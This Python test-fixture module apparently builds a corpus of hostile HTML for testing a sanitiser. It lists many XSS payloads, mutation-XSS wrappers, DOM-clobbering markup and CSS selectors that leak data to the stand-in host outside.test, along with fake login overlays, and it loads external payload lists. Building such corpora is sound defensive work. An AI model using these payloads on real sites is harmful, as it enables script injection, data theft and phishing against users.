"""HTML that tries to run, to fetch or to pose as ours: each of our own attacks, and those of lists that others keep."""

import json
from pathlib import Path

RUN = "window.pwned=1;top.pwned=1;alert(1)"
OUT = "https://outside.test"
CORES = [
    f"<script>{RUN}</script>", f"<img src=x onerror='{RUN}'>", f"<svg onload='{RUN}'>", f"<svg><script>{RUN}</script></svg>",
    f"<body onload='{RUN}'>", "<iframe srcdoc=\"<script>parent.pwned=1</script>\">", f"<iframe src='javascript:{RUN}'>",
    f"<object data='javascript:{RUN}'>", f"<embed src='javascript:{RUN}'>", f"<details open ontoggle='{RUN}'>x",
    f"<input autofocus onfocus='{RUN}'>", f"<video><source onerror='{RUN}'></video>", f"<audio src=x onerror='{RUN}'>",
    f"<marquee onstart='{RUN}'>x</marquee>", f"<style>@import '{OUT}/s.css';</style>", f"<link rel=stylesheet href={OUT}/l.css>",
    f"<style>*{{background:url({OUT}/b.png)}}</style>", f"<meta http-equiv=refresh content='0;url={OUT}/m'>",
    f"<base href={OUT}/><img src=b.png>", f"<img src={OUT}/i.png>", f"<img srcset='{OUT}/set.png 1x'>",
    f"<picture><source srcset={OUT}/p.png><img></picture>", f"<div style='background:url({OUT}/d.png)'>x</div>",
    f"<table background={OUT}/t.png><tr><td>x</table>", f"<video poster={OUT}/v.png></video>", f"<input type=image src={OUT}/in.png>",
    f"<svg><image href={OUT}/svg.png /></svg>", f"<svg><use href='{OUT}/u.svg#x'/></svg>", f"<link rel=prefetch href={OUT}/pf>",
    "<link rel=dns-prefetch href=//outside.test>", f"<form action={OUT}/f><input autofocus><button>x</form>",
    f"<math href='javascript:{RUN}'>x</math>", f"<template><script>{RUN}</script></template>", f"<dialog open onfocus='{RUN}'>x</dialog>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>", f"<svg><set attributeName=href to='javascript:{RUN}'></svg>",
    f"<style>@font-face{{font-family:x;src:url({OUT}/f.woff)}}*{{font-family:x}}</style>", f"<frameset onload='{RUN}'><frame src={OUT}/fr></frameset>",
    f"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{RUN}\"/>'>", f"<a href='javascript:{RUN}' autofocus id=x>x</a>",
]  # fmt: skip
WRAPPERS = [
    "{}", "<svg><style>{}</style></svg>", "<math><mtext><table><mglyph><style><!--</style>{}</table>", "<noscript><p title=\"</noscript>{}\"></noscript>",
    "<svg></p><style><a id=\"</style>{}\">", "<form><math><mtext></form><form><mglyph><style></math>{}", "<template>{}</template>",
    "<!--><p>{}-->", "<textarea></textarea>{}</textarea>", "<title></title>{}</title>", "<xmp></xmp>{}</xmp>", "<select><option>{}</select>",
    "<b><a><b><p><a>{}", "<table><tr>{}<td></table>", "<a title='\"'>{}</a>", "<p style='}}</style>{}'>x</p>",
]  # fmt: skip
"""Places in which one parser reads text and another reads tags: how mutation attacks pass sanitisers."""
SINGLE = [
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></table></mtext></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><math><mi><svg><style><!--</style><img src=x onerror=alert(1)>--></style>", "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<plaintext><img src=x onerror=alert(1)>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<img src=x:x onerror&#61;alert(1)>", "<img/src/onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<img src=\"x\"onerror=alert(1)>", "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT >", "<script/x>alert(1)</script>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "<a href='&#x6A;avascript:alert(1)'>x</a>", "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>", "<area href='javascript:alert(1)'>", "<form id=x></form><button form=x formaction='javascript:alert(1)'>x", "<isindex action='javascript:alert(1)' type=image>",
    "<img name=getElementById><img name=body><form name=cookie>", "<form id=document><input name=body></form>", "<a id=defaultView></a><a id=defaultView name=pwned href=x>", "<form><input id=attributes><input name=nodeName>",
    "<p id=main>", "<p class=desk data-events=/x>", "<div hx-get=https://outside.test/ hx-trigger=load>", "<p hx-on:load=alert(1)>", "<div data-live=1 hx-swap=outerMorph>", "<input name=csrfmiddlewaretoken>",
    "<style>input[value^=a]{background:url(https://outside.test/a)}</style><input value=abc>", "<p style=\"background:url('https://outside.test/1')\">x", "<p style='background:\\75rl(https://outside.test/2)'>x",
    "<p style='background:u/**/rl(https://outside.test/3)'>x", "<p style='background-image:image-set(\"https://outside.test/4\" 1x)'>x", "<p style='background-image:cross-fade(url(https://outside.test/5),red)'>x",
    "<p style='--x:url(https://outside.test/6);background:var(--x)'>x", "<p style='list-style:url(https://outside.test/7)'>x", "<p style='cursor:url(https://outside.test/8),auto'>x", "<p style='content:url(https://outside.test/9)'>x",
    "<p style='border-image:url(https://outside.test/10) 1'>x", "<p style='mask:url(https://outside.test/11)'>x", "<p style='filter:url(https://outside.test/12#x)'>x", "<p style='shape-outside:url(https://outside.test/13);float:left'>x",
    "<p style='font-family:x;src:url(https://outside.test/14)'>x", "<p style='width:expression(alert(1))'>x", "<p style='-moz-binding:url(https://outside.test/15)'>x", "<p style='behavior:url(https://outside.test/16)'>x",
    "<p style='position:fixed;inset:0;z-index:9999;background:white'>log in</p>", "<p style='color:red;}body{display:none}'>x", "<p style='color:&quot;</style><img src=x onerror=alert(1)>'>x", "<p style=\"color:'</p><script>alert(1)</script>'\">x",
    "<img src='//outside.test/17'>", "<img src='\\\\outside.test\\18'>", "<img src='https:outside.test/19'>", "<img src=' https://outside.test/20'>", "<img src='ht\ntps://outside.test/21'>", "<img lowsrc=https://outside.test/22>", "<img dynsrc=https://outside.test/23>",
    "<img longdesc=https://outside.test/24 usemap=#x>", "<img src=cid:x onload=alert(1)>", "<img src='cid:\"><script>alert(1)</script>'>", "<img alt='\"><script>alert(1)</script>'>", "<img alt='x` `<script>alert(1)</script>`'>", "<img alt=\"</span><script>alert(1)</script>\" src=https://outside.test/25>",
    "<a href='https://lumi.shop/\"><script>alert(1)</script>'>x</a>", "<a href='https://\"onmouseover=alert(1)//'>bank.com</a>", "<a href='https://a.b/<img src=x onerror=alert(1)>'>paypal.com</a>", "<a href='https://<svg onload=alert(1)>.evil.shop/'>paypal.com</a>", "<a href='https://evil.shop/'>paypal.com<img src=x onerror=alert(1)></a>",
    "<a href=https://evil.shop/><a href=https://evil.shop/>paypal.com</a></a>", "<a href='https://x.shop' ping=https://outside.test/26>x</a>", "<a href='https://x.shop' download onclick=alert(1)>x</a>", "<a href='https://x.shop' target=_top>x</a>", "<q cite=javascript:alert(1)>x</q>", "<blockquote cite=https://outside.test/27>x",
    "<img src=data:written,0 onerror=alert(1)>", "<img src='data:image/png;base64,AAAA\" onerror=alert(1) x=\"'>", "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>", "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<body background=https://outside.test/28>", "<body bgcolor='red\" onload=\"alert(1)'>x", "<body style='background:url(https://outside.test/29)' onload=alert(1)>", "<body\nonload=alert(1)>x", "<body onpageshow=alert(1)>x", "<body onhashchange=alert(1)><a href=#x>x", "<html manifest=https://outside.test/30>",
    "<font color='red;background:url(https://outside.test/31)'>x", "<font face='x\"><script>alert(1)</script>'>x", "<td width='1\" onmouseover=alert(1)'>x", "<table width='expression(alert(1))'>x", "<hr width='1%;background:url(//outside.test)'>", "<ol start='1\" onfocus=alert(1) tabindex=1'>", "<p dir='ltr\" onclick=alert(1)'>x", "<p lang='\"><script>alert(1)</script>'>x",
    "<portal src=https://outside.test/32>", "<fencedframe src=https://outside.test/33>", "<applet code=https://outside.test/34>", "<bgsound src=https://outside.test/35>", "<layer src=https://outside.test/36>", "<xml src=https://outside.test/37 id=x>", "<track src=https://outside.test/38>", "<param name=movie value=https://outside.test/39>",
    "<dialog open><form method=dialog><button>Log in again</button></form></dialog>", "<p popover id=x>x</p><button popovertarget=x>x", "<p contenteditable onblur=alert(1) autofocus>x", "<p tabindex=1 autofocus onfocus=alert(1)>x", "<p accesskey=x onclick=alert(1)>x", "<p draggable=true ondrag=alert(1)>x", "<slot onslotchange=alert(1)>", "<p is=x-y shadowroot=open>",
    "<template shadowrootmode=open><script>alert(1)</script></template>", "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>", "<link rel=preload as=image href=https://outside.test/40>", "<link rel=modulepreload href=https://outside.test/41>", "<link rel=icon href=https://outside.test/42>", "<link rel=preconnect href=https://outside.test>",
    "<meta http-equiv=Content-Security-Policy content='img-src *'>", "<meta name=referrer content=unsafe-url><img src=https://outside.test/43>", "<meta http-equiv=set-cookie content='sessionid=x'>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<script type=importmap>{}</script>", "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"https://outside.test/44\"]}]}</script>",
    "\u2028<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<svg/onload=alert(1)//", "<iframe/onload=alert(1)//", "<x onclick=alert(1)>x</x>", "<x\u00a0onclick=alert(1)>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60script&#62alert(1)&#60/script&#62",
]  # fmt: skip
OWN = list(dict.fromkeys([*SINGLE, *(wrapper.format(core) for core in CORES for wrapper in WRAPPERS)]))


def of_others(folder: Path) -> list[str]:
    """Return every hostile string of the lists in $AMENDS_DATA/mail/strings, each once."""
    found: list[str] = []
    for file in sorted(folder.glob("*.txt")):
        found += file.read_text(encoding="utf-8", errors="replace").splitlines()
    found += json.loads((folder / "naughty-strings.json").read_text(encoding="utf-8"))
    found += [case["payload"] for case in json.loads((folder / "xss-dompurify.json").read_text(encoding="utf-8"))]
    return [text for text in dict.fromkeys(found) if text.strip()]
